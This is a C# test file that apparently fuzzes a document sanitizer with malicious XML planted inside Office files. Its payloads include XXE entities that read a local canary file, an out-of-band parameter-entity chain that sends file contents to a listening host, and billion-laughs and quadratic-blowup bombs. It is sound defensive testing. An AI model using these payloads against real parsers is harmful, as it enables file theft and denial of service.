using System.Net;
using System.Net.Sockets;
using System.Text;
using Airlock.Sanitizers.Contract;
using Airlock.Tests.Fakes;
using Airlock.Tests.Samples;

namespace Airlock.Tests.Fuzz;

/// <summary>
/// Markup that reaches for files and the network, or that explodes, in each carrier there is. Run in the sandbox for time, memory and verdict, and once
/// more in this process, where a file and a listener are in reach and nothing but the reader's settings keeps it from them.
/// </summary>
public sealed class XmlAttackTests
{
    private const string Canary = "SECRET-CANARY";

    private static readonly (string Seed, string Part)[] Carriers =
        [("docx/clean.docx", "word/document.xml"), ("xlsx/clean.xlsx", "xl/workbook.xml"), ("pptx/clean.pptx", "ppt/presentation.xml")];

    [Fact]
    [Trait("Category", "Slow")]
    public async Task No_markup_reaches_out_or_explodes()
    {
        using var folder = new TemporaryFolder();
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var attacks = Attacks(folder.Write("canary.txt", Encoding.UTF8.GetBytes(Canary)), ((IPEndPoint)listener.LocalEndpoint).Port).ToList();

        await new AttackTable("xml-attacks", "Markup that reaches out or explodes").RunAsync(attacks);

        foreach (var (what, _, extension, file) in attacks)
        {
            var (report, output) = SampleTests.Sanitize(new SanitizeRequest { ClaimedExtension = extension, Limits = new SanitizeLimits() }, new MemoryStream(file));
            Assert.DoesNotContain(Canary, OutputText.Of(report.OutputFormat, output), StringComparison.Ordinal);
            Assert.DoesNotContain("127.0.0.1", OutputText.Of(report.OutputFormat, output), StringComparison.Ordinal);
            Assert.False(listener.Pending(), $"{what} called");
        }
    }

    private static IEnumerable<(string What, string Expected, string Extension, byte[] File)> Attacks(string canary, int port)
    {
        foreach (var (seed, part) in Carriers)
            foreach (var (what, expected, attack) in Payloads(canary, $"127.0.0.1:{port}"))
                yield return ($"{Path.GetExtension(seed)[1..]}, {what}", expected, Path.GetExtension(seed), With(seed, part, attack));
    }

    private static IEnumerable<(string What, string Expected, Func<string, byte[]> Attack)> Payloads(string canary, string host)
    {
        var refused = AttackTable.Refused(Reasons.Corrupt);
        yield return ("entity of a file", refused, Entity($"<!ENTITY x SYSTEM \"file://{canary}\">", "&x;"));
        yield return ("entity over http", refused, Entity($"<!ENTITY x SYSTEM \"http://{host}/x\">", "&x;"));
        yield return ("entity over ftp", refused, Entity($"<!ENTITY x SYSTEM \"ftp://{host}/x\">", "&x;"));
        yield return ("entity out of a jar", refused, Entity($"<!ENTITY x SYSTEM \"jar:http://{host}/x!/y\">", "&x;"));
        yield return ("parameter entity", refused, Entity($"<!ENTITY % x SYSTEM \"http://{host}/x\">%x;", ""));
        yield return ("parameter entity that sends a file out", refused, Entity($"<!ENTITY % f SYSTEM \"file://{canary}\"><!ENTITY % x \"<!ENTITY y SYSTEM 'http://{host}/%f;'>\">%x;", "&y;"));
        yield return ("external subset", refused, Before($"<!DOCTYPE x SYSTEM \"http://{host}/x.dtd\">"));
        yield return ("public external subset", refused, Before($"<!DOCTYPE x PUBLIC \"-//x\" \"http://{host}/x.dtd\">"));
        yield return ("billion laughs", refused, Entity(Laughs(), "&l9;"));
        yield return ("quadratic blow-up", refused, Entity($"<!ENTITY x \"{new string('a', 50_000)}\">", string.Concat(Enumerable.Repeat("&x;", 10_000))));
        yield return ("entity in an attribute", refused, Entity("<!ENTITY x \"a\">", "<z a=\"&x;\"/>"));
        yield return ("notation and unparsed entity", refused, Entity($"<!NOTATION n SYSTEM \"file://{canary}\"><!ENTITY x SYSTEM \"http://{host}/x\" NDATA n>", ""));
        yield return ("XInclude", AttackTable.Sanitized, Inside($"<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://{canary}\" parse=\"text\"/>"));
        yield return ("schema location", AttackTable.Sanitized, OnRoot($" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://{host}/x.xsd\""));
        yield return ("style sheet instruction", AttackTable.Unchanged, Before($"<?xml-stylesheet type=\"text/xsl\" href=\"http://{host}/x.xsl\"?>"));
        yield return ("picture by address", AttackTable.Sanitized, Inside($"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://{host}/x.png\"/></svg>"));
        yield return ("xml:base", AttackTable.Sanitized, OnRoot($" xml:base=\"http://{host}/\""));
        yield return ("UTF-7", refused, text => Encoding.ASCII.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-x/+AD4-" + Rest(text)));
        yield return ("UTF-16 with a DTD", refused, text => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<!DOCTYPE x [<!ENTITY x \"a\">]>" + Rest(text))]);
        yield return ("EBCDIC", refused, text => [0x4C, 0x6F, 0xA7, 0x94, 0x93, .. Encoding.ASCII.GetBytes(Rest(text))]);
        yield return ("markup in CDATA", AttackTable.Unchanged, Inside("<![CDATA[<!DOCTYPE x SYSTEM \"http://example.invalid/x\">]]>")); // text, and stays text
        yield return ("elements 100,000 deep", refused, Nested(100_000));
        yield return ("attribute of 16 MiB", AttackTable.Unchanged, Inside($"<z a=\"{Letters(16 << 20)}\"/>"));
        yield return ("100,000 attributes", refused, Inside($"<z {string.Join(' ', Enumerable.Range(0, 100_000).Select(number => $"a{number}=\"\""))}/>"));
        yield return ("100,000 namespaces", refused, Inside($"<z {string.Join(' ', Enumerable.Range(0, 100_000).Select(number => $"xmlns:a{number}=\"urn:{number}\""))}/>"));
    }

    private static Func<string, byte[]> Before(string declaration) => text => Encoding.UTF8.GetBytes(declaration + Rest(text));

    private static Func<string, byte[]> Entity(string declarations, string use) => text => Encoding.UTF8.GetBytes($"<!DOCTYPE x [{declarations}]>" + Into(Rest(text), use));

    private static Func<string, byte[]> Inside(string content) => text => Encoding.UTF8.GetBytes(Into(Rest(text), content));

    /// <summary>The root in itself: a name the rules let in, so that its depth counts.</summary>
    private static Func<string, byte[]> Nested(int depth) => text =>
    {
        var name = Rest(text)[1..Rest(text).IndexOfAny([' ', '>'])];
        return Encoding.UTF8.GetBytes(Into(Rest(text), string.Concat(Enumerable.Repeat($"<{name}>", depth)) + string.Concat(Enumerable.Repeat($"</{name}>", depth))));
    };

    private static Func<string, byte[]> OnRoot(string attributes) => text => Encoding.UTF8.GetBytes(Rest(text).Insert(Rest(text).IndexOfAny([' ', '>']), attributes));

    private static string Into(string text, string content) => text.Insert(text.IndexOf('>', StringComparison.Ordinal) + 1, content);

    /// <summary>Without the XML declaration.</summary>
    private static string Rest(string text) => text.StartsWith("<?xml", StringComparison.Ordinal) ? text[(text.IndexOf("?>", StringComparison.Ordinal) + 2)..] : text;

    private static string Laughs() => "<!ENTITY l0 \"lol\">" + string.Concat(Enumerable.Range(1, 9).Select(level => $"<!ENTITY l{level} \"{string.Concat(Enumerable.Repeat($"&l{level - 1};", 10))}\">"));

    /// <summary>Hard to pack: otherwise it is a bomb and not a large attribute.</summary>
    private static string Letters(int count)
    {
        var dice = new Dice(1);
        return string.Create(count, dice, (letters, chance) =>
        {
            foreach (ref var letter in letters) letter = (char)('a' + (chance.Next() % 26));
        });
    }

    private static byte[] With(string seed, string part, Func<string, byte[]> attack)
    {
        var package = FuzzFamily.Of(Path.GetDirectoryName(seed)!).Seeds.Single(one => one.Name == seed).Content;
        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(package));
        using var text = new StreamReader(zip.GetEntry(part)!.Open());
        return RawZip.From(package, part, attack(text.ReadToEnd())).Bytes();
    }
}
